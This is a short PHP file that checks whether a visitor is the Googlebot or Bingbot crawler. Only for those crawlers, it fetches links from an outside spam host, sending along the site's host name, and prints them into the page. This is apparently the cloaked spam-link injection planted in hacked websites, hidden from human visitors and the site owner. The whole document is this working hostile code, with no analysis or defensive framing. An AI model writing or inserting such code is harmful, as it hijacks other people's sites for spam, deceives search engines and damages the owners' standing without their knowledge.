<?php
$ua = strtolower($_SERVER['HTTP_USER_AGENT']);
if (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {
    echo file_get_contents('http://spam-links.example/links.php?host=' . $_SERVER['HTTP_HOST']);
}
